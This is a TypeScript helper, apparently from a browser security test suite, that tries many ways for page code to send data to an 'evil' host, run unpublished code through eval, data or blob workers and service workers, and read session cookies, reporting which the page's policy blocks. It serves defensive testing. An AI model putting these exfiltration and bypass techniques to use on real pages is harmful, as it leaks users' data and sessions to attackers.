/**
 * Tries every way to send data out of the page. It runs in the page as the code of a live remote, so it
 * cannot use outer declarations. Resolves to the outcome of each way by its name: 'held' if it was blocked,
 * else its result.
 */
export async function exfiltrate({
  evil,
  base,
}: {
  evil: string;
  base: string;
}): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {};
  const patience = <T>(work: Promise<T>) =>
    Promise.race([work, new Promise<string>((resolve) => setTimeout(() => resolve('held'), 3_000))]);
  const attempt = async (name: string, work: () => unknown) => {
    try {
      outcomes[name] = String((await patience(Promise.resolve(work()))) ?? 'held');
    } catch {
      outcomes[name] = 'held';
    }
  };
  const url = (name: string) => `${evil}/${name}`;
  const put = (tag: string, attributes: Record<string, string>) =>
    new Promise<string>((resolve) => {
      const element = document.createElement(tag);
      // A blocked frame fires `load` too: only the log of the other server shows whether data left.
      for (const end of ['load', 'error']) element.addEventListener(end, () => resolve('held'));
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    });
  const answerOf = (worker: Worker | MessagePort) =>
    new Promise<string>((resolve) => {
      worker.addEventListener('message', (event) => resolve(String((event as MessageEvent).data)));
      worker.addEventListener('error', () => resolve('held'));
    });
  const blobOf = (code: string, type = 'text/javascript') => URL.createObjectURL(new Blob([code], { type }));
  const thief = `fetch('${url('blob')}', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('held'))`;
  const html = `<script>fetch('${url('document')}', { mode: 'no-cors' })</script><img src="${url('picture')}">`;

  // Calls.
  await attempt('fetch', () => fetch(url('fetch'), { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('beacon', () => {
    navigator.sendBeacon(url('beacon'), 'x');
    return 'held';
  });
  await attempt('xhr', () => {
    const call = new XMLHttpRequest();
    call.open('GET', url('xhr'), false);
    call.send();
    return 'sent';
  });
  await attempt('event source', () => answerOf(new EventSource(url('events')) as unknown as Worker));
  await attempt('web socket', () =>
    answerOf(new WebSocket(url('socket').replace('http', 'ws')) as unknown as Worker),
  );
  await attempt('another brand', () =>
    fetch(`${location.protocol}//natixis.localhost:${location.port}/composition`, { mode: 'no-cors' }).then(
      () => 'sent',
    ),
  );

  // Parts of a page.
  for (const [tag, attributes] of [
    ['img', { src: url('img') }],
    ['script', { src: url('script.js') }],
    ['video', { src: url('video') }],
    ['object', { data: url('object') }],
    ['embed', { src: url('embed') }],
    ['iframe', { src: url('frame') }],
    ['iframe', { src: `${base}picture.svg` }],
    ['iframe', { src: `data:text/html,${encodeURIComponent(html)}` }],
    ['iframe', { src: blobOf(html, 'text/html') }],
    ['object', { data: `${base}picture.svg` }],
    ['embed', { src: `${base}picture.svg` }],
    ['link', { rel: 'stylesheet', href: url('style.css') }],
    ['link', { rel: 'prefetch', href: url('prefetch') }],
    ['link', { rel: 'prerender', href: url('prerender') }],
    ['link', { rel: 'modulepreload', href: url('module.js') }],
    ['link', { rel: 'preload', as: 'fetch', href: url('preload') }],
    ['link', { rel: 'manifest', href: url('manifest') }],
    ['script', { src: `${base}picture.svg` }],
    ['script', { src: `data:text/javascript,${encodeURIComponent(thief)}` }],
  ] as [string, Record<string, string>][]) {
    await attempt(`${tag} ${Object.values(attributes).at(-1)?.slice(0, 60)}`, () => put(tag, attributes));
  }
  await attempt('frame with its own text', async () => {
    await put('iframe', { srcdoc: html });
    return 'held';
  });
  await attempt('style', () => {
    document.body.style.backgroundImage = `url(${url('background')})`;
    return 'held';
  });
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = url('form');
    form.target = 'elsewhere';
    document.body.append(form);
    form.submit();
    return 'held';
  });
  await attempt('ping', () => {
    const link = document.createElement('a');
    link.href = '#here';
    link.ping = url('ping');
    document.body.append(link);
    link.click();
    return 'held';
  });

  // Code that nobody published.
  await attempt('eval', () => new Function("return 'ran'")());
  await attempt('handler', () => {
    const element = document.createElement('b');
    element.setAttribute('onclick', "this.title = 'ran'");
    element.click();
    return element.title || 'held';
  });
  await attempt('import', () => import(/* webpackIgnore: true */ url('import.js')).then(() => 'ran'));
  await attempt('import of data', () => {
    const address = "data:text/javascript,export default 'ran'";
    return import(/* webpackIgnore: true */ address).then(() => 'ran');
  });
  await attempt('web assembly', () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'ran'),
  );

  // Code that would outlive the page or its policy.
  await attempt('worker', () => answerOf(new Worker(`${base}worker.js`)));
  await attempt('module worker', () => answerOf(new Worker(`${base}worker.js`, { type: 'module' })));
  await attempt('shared worker', () => answerOf(new SharedWorker(`${base}worker.js`).port));
  await attempt('worker of data', () =>
    answerOf(new Worker(`data:text/javascript,${encodeURIComponent(thief)}`)),
  );
  await attempt('worker of a blob', () => answerOf(new Worker(blobOf(thief))));
  await attempt('worker of a worker', () =>
    answerOf(
      new Worker(
        blobOf(
          `try { new Worker('${location.origin}${base}worker.js').onmessage = (e) => postMessage(e.data) } catch { postMessage('held') }`,
        ),
      ),
    ),
  );
  for (const script of [`${base}worker.js`, '/stand-in/consent.js', '/sw.js', blobOf('')]) {
    await attempt(`service worker ${script.slice(0, 60)}`, () =>
      navigator.serviceWorker.register(script).then(() => 'registered'),
    );
  }
  await attempt('a window beside', async () => {
    const beside = window.open('/robots.txt');
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const reached = beside?.document?.body ? 'reached' : 'held';
    beside?.close();
    return reached;
  });
  await attempt('a window of a blob', () => {
    window.open(blobOf(html, 'text/html'));
    return 'held';
  });

  // Data that scripts may not read.
  await attempt('cookies', () =>
    /portal_session|portal_tester|portal_visitor/.test(document.cookie) ? 'read' : 'held',
  );
  await attempt('metrics', async () => ((await fetch('/api/metrics')).ok ? 'read' : 'held'));
  return outcomes;
}
